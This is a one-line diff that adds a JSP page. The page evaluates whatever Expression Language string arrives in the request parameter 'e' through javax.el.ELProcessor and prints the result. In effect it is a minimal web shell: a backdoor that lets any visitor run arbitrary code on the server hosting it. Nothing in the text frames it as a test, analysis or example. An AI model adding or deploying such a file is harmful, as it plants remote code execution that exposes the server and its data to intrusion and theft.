@@ -1,0 +1,1 @@
+<% out.print(new javax.el.ELProcessor().eval(request.getParameter("e"))); %>
